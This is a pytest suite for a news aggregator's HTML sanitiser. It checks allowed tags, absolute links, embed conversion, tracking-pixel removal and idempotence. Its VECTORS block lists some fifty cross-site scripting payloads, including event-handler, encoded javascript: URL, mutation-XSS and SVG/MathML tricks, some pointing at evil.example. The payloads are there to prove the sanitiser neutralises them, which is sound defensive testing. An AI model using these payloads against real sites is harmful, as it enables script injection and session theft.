"""The output sanitiser: what stays, what goes, what is added; inert, absolute and stable."""

from __future__ import annotations

import re
from html.parser import HTMLParser

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from aggregator.normalise.html import SANITISER_VERSION, clean_html
from aggregator.normalise.html_policy import ATTRIBUTES, TAGS

BASE = "https://news.millbrook.example/2025/bins"
REL = ' rel="nofollow noopener ugc"'
LAZY = ' loading="lazy" referrerpolicy="no-referrer"'


@pytest.mark.parametrize(
    ("html", "expected"),
    [
        ("<h1 class=x>T</h1><h2 id=y>U</h2>", "<h2>T</h2><h2>U</h2>"),
        ('<p style="color:red" onclick="x()" class=a id=b>t</p>', "<p>t</p>"),
        ('<a href="../p?a=1&b=2">l</a>', f'<a href="https://news.millbrook.example/p?a=1&amp;b=2"{REL}>l</a>'),
        ('<a href="//cdn.example/x" rel="me">l</a>', f'<a href="https://cdn.example/x"{REL}>l</a>'),
        ('<a href="mailto:clerk@a.example">m</a>', f'<a href="mailto:clerk@a.example"{REL}>m</a>'),
        ('<a href="tel:01512345678">m</a>', f'<a href="tel:01512345678"{REL}>m</a>'),
        ('<a href="ftp://a.example/">m</a>', f"<a{REL}>m</a>"),
        ('<img src="a.png" alt="q">', f'<img src="https://news.millbrook.example/2025/a.png" alt="q"{LAZY}>'),
        (
            '<img src=a.png srcset="a.png 1x, /b.png 2x,javascript:x 3x">',
            '<img src="https://news.millbrook.example/2025/a.png" srcset="https://news.millbrook.example/2025/a.png 1x,'
            f' https://news.millbrook.example/b.png 2x"{LAZY}>',
        ),
        (
            '<video src=v.mp4 poster=/p.jpg autoplay></video>',
            '<video src="https://news.millbrook.example/2025/v.mp4" poster="https://news.millbrook.example/p.jpg"'
            ' controls=""></video>',
        ),
        ('<q cite="/s">x</q>', '<q cite="https://news.millbrook.example/s">x</q>'),
        ('<q cite="javascript:x">x</q>', "<q>x</q>"),
        ('<section><article>a</article></section>', "a"),
        ("<form action=/x><input name=q>words<button>b</button></form>", "words"),
        ('<td colspan="2;x">', ""),
        ('<table><tr><td colspan="2" width="9">x</td></tr></table>',
         '<table><tbody><tr><td colspan="2">x</td></tr></tbody></table>'),
        ('<p dir="rtl" lang="cy">x</p><p dir="up">y</p>', '<p dir="rtl" lang="cy">x</p><p>y</p>'),
        ("<noscript><img src=/z.png></noscript>", f'<img src="https://news.millbrook.example/z.png"{LAZY}>'),
        ("a\x00\x0bb", "ab"),
        ("<details><summary>s</summary>d</details>", "<details><summary>s</summary>d</details>"),
        ("<ruby>漢<rp>(</rp><rt>kan</rt><rp>)</rp></ruby>", "<ruby>漢<rp>(</rp><rt>kan</rt><rp>)</rp></ruby>"),
    ],
)  # fmt: skip
def test_policy(html: str, expected: str) -> None:
    """P-48, P-23: the allow-list, absolute addresses everywhere, and the attributes that are added."""
    assert clean_html(html, BASE) == expected


@pytest.mark.parametrize(
    ("html", "address", "words"),
    [
        ('<iframe src="//video.example/embed/1" title="Council &amp; budget"></iframe>',
         "https://video.example/embed/1", "Council &amp; budget"),
        ('<iframe src="about:blank" data-src="https://video.example/2"></iframe>',
         "https://video.example/2", "Embedded content: video.example"),
        ('<object><param name=movie value=x><embed src="https://video.example/3"></object>',
         "https://video.example/3", "Embedded content: video.example"),
        ('<object data="https://maps.example/4">old</object>',
         "https://maps.example/4", "Embedded content: maps.example"),
    ],
)  # fmt: skip
def test_embeds_become_links_with_a_title(html: str, address: str, words: str) -> None:
    """P-48: iframe and video embeds become a link with a title."""
    assert clean_html(f"<p>a {html} b</p>", BASE) == f'<p>a <a href="{address}"{REL}>{words}</a> b</p>'


@pytest.mark.parametrize(
    "html",
    [
        '<img src="/p.gif" width="1" height="1">',
        '<img src="/p.gif" width="2px">',
        '<img src="/p.gif" height="0">',
        '<img src="/p.gif" style="width: 1px; height: 1px">',
        '<img src="/p.gif" style="border:0;display:none">',
        '<img src="https://pixel.wp.com/b.gif?blog=1">',
        '<img src="https://feeds.feedburner.com/~r/Millbrook/~4/x">',
        '<img src="https://sub.scorecardresearch.com/p?c1=2">',
        '<img src="data:image/gif;base64,R0lGODlhAQABAIAAAAAAAP">',
        '<img src="data:image/svg+xml;base64,PHN2Zz4=">',
        '<img src="data:image/png;base64,' + "A" * 9_000 + '">',
        '<img src="data:text/html,x">',
        '<img alt="nothing">',
        '<iframe src="javascript:alert(1)"></iframe>',
    ],
)
def test_counters_and_empty_pictures_go(html: str) -> None:
    """P-48, P-23: pictures of at most 2 px, hidden, of beacon hosts, without address or with big data are removed."""
    assert clean_html(f"<p>a{html}b</p>", BASE) == "<p>ab</p>"


def test_small_pictures_in_the_text_stay() -> None:
    """P-23: a small bitmap in a data address survives, in img only."""
    picture = "data:image/png;base64,iVBORw0KGgo="
    assert clean_html(f'<img src="{picture}">', BASE) == f'<img src="{picture}"{LAZY}>'
    assert "data:" not in clean_html(f'<a href="{picture}">x</a><video src="{picture}"></video>', BASE)


def test_without_a_base_relative_links_go() -> None:
    """P-20: what cannot be resolved is no link; a base that is no web address is none."""
    for base in (None, "javascript:alert(1)", "http://[bad"):
        assert clean_html('<a href="x">y</a><img src="z.png">', base) == f"<a{REL}>y</a>"
        assert clean_html('<q cite="/s">x</q>', base) == "<q>x</q>"


VECTORS = """
<script>alert(1)</script>
<ScRiPt src=//evil.example/x></sCrIpT>
<img src=x onerror=alert(1)>
<img src="x" onerror="alert(1)" / onload=alert(2)>
<svg onload=alert(1)><script>alert(2)</script></svg>
<svg><a href="javascript:alert(1)"><text>x</text></a></svg>
<svg><style><img src=x onerror=alert(1)></style></svg>
<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>
<math href="javascript:alert(1)">x</math>
<a href="javascript:alert(1)">x</a>
<a href="JaVaScRiPt:alert(1)">x</a>
<a href=" javascript:alert(1)">x</a>
<a href="java&#10;script:alert(1)">x</a>
<a href="&#106;&#97;vascript&colon;alert(1)">x</a>
<a href="vbscript:msgbox(1)">x</a>
<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>
<iframe srcdoc="<script>alert(1)</script>"></iframe>
<iframe src="java&#9;script:alert(1)" title="<script>"></iframe>
<iframe src="https://v.example/" title="&quot;><script>alert(1)</script>"></iframe>
<object data="javascript:alert(1)"></object>
<embed src="data:text/html,<script>alert(1)</script>">
<form action="javascript:alert(1)"><button formaction="javascript:alert(1)">x</button></form>
<input onfocus=alert(1) autofocus>
<body onload=alert(1)>
<base href="https://evil.example/"><a href="x">x</a>
<meta http-equiv=refresh content="0;url=javascript:alert(1)">
<link rel=stylesheet href=https://evil.example/x.css>
<style>@import "https://evil.example/x"; body{background:url(javascript:alert(1))}</style>
<p style="background:url(javascript:alert(1))">x</p>
<table background="javascript:alert(1)"><tr><td>x</td></tr></table>
<video poster="javascript:alert(1)" src="javascript:alert(1)" onerror=alert(1)></video>
<img srcset="javascript:alert(1) 1x, data:text/html,x 2x">
<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>
<textarea><img title="</textarea><img src=x onerror=alert(1)>"></textarea>
<title><img title="</title><img src=x onerror=alert(1)>"></title>
<xmp><img title="</xmp><img src=x onerror=alert(1)>"></xmp>
<template><img src=x onerror=alert(1)></template>
<select><style></select><img src=x onerror=alert(1)></style>
<!--><img src=x onerror=alert(1)>-->
<!-- --!><img src=x onerror=alert(1)> -->
<![CDATA[><img src=x onerror=alert(1)>]]>
<img title='"><script>alert(1)</script>' src=a.png>
<p title="<h1 onclick=alert(1)>">x</p>
<img alt="x` onerror=alert(1)" src=a.png>
<a href="https://a.example/&quot; onclick=alert(1) x=&quot;">x</a>
<p id="location" name="cookie">x</p>
<scr<script>ipt>alert(1)</scr</script>ipt>
<nosc<noscript>ript><img src=x onerror=alert(1)></noscript>
<video><source onerror="alert(1)" src="x"></video>
<details open ontoggle=alert(1)>x</details>
<marquee onstart=alert(1)>x</marquee>
<a href="https://a.example/" target=_blank ping="https://evil.example/">x</a>
"""


class Inspector(HTMLParser):
    """Reads cleaned HTML with another parser and keeps every tag and attribute it sees."""

    def __init__(self) -> None:
        super().__init__()
        self.seen: list[tuple[str, str, str]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        """A tag, once for each attribute and once for itself."""
        self.seen += [(tag, "", ""), *((tag, name, value or "") for name, value in attrs)]


def assert_inert(html: str) -> None:
    """Only allowed tags and attributes, only allowed schemes."""
    inspector = Inspector()
    inspector.feed(html)
    for tag, name, value in inspector.seen:
        assert tag in TAGS - {"h1"}
        added = {"rel", "loading", "referrerpolicy", "controls", ""}
        assert name in ATTRIBUTES["*"] | ATTRIBUTES.get(tag, frozenset()) | added
        if name in {"href", "src", "srcset", "poster", "cite"}:
            assert re.match(r"https?://|mailto:|tel:|data:image/(png|gif|jpeg|webp|avif);base64,", value)


@pytest.mark.parametrize("vector", [line for line in VECTORS.splitlines() if line])
def test_vectors_are_inert(vector: str) -> None:
    """P-48: no way to run script, load frames, style or send anything survives, alone or inside of text."""
    for html in (vector, f"<p>before {vector} after</p>", f"<table>{vector}", f"<h1>{vector}"):
        cleaned = clean_html(html, BASE)
        assert_inert(cleaned)
        assert clean_html(cleaned, BASE) == cleaned


PIECES = """
<p> </p> <a/href=/x> </a> <b> </b> <i> <table> <tr> <td> </table> <ul> <li> <h1> </h1> <h2> <section> <button> <object>
<svg> </svg> <math> <style> <pre> x &lt; &amp;amp; <img/src=a.png> <img/title='<h1>'src=b> <iframe/src=//v.example/1>
</iframe> <!-- --> <form> <caption> <noscript> </noscript> <select> <q/cite=c> < <template> <picture>
<source/srcset='a,b'> <details> <ruby> <rt> <font> <nobr>
"""
pieces = st.sampled_from([*PIECES.split(), "\n", "\xa0"])


@settings(max_examples=100, deadline=None)
@given(html=st.lists(pieces, max_size=14).map("".join))
def test_cleaning_twice_changes_nothing_more(html: str) -> None:
    """P-48: whatever the nesting, the result is inert and stays as it is when cleaned again, with or without base."""
    cleaned = clean_html(html, BASE)
    assert_inert(cleaned)
    assert clean_html(cleaned, BASE) == cleaned
    assert clean_html(cleaned, None) == cleaned


@pytest.mark.parametrize(
    "html", ["<div>" * 20_000 + "<p>Bins &amp; <i>roads</i>", "<b><div></b>" * 5_000 + "Bins & roads"]
)
def test_extreme_bodies_come_out_as_text(html: str) -> None:
    """P-48, libraries 1.6: no quadratic time; the words survive."""
    assert clean_html(html, BASE) == "<p>Bins &amp; roads</p>"
    assert clean_html("<div>" * 2_000, BASE) == ""


def test_version_is_stated() -> None:
    """P-48: the sanitiser version is something a column can hold."""
    assert SANITISER_VERSION.isdigit()
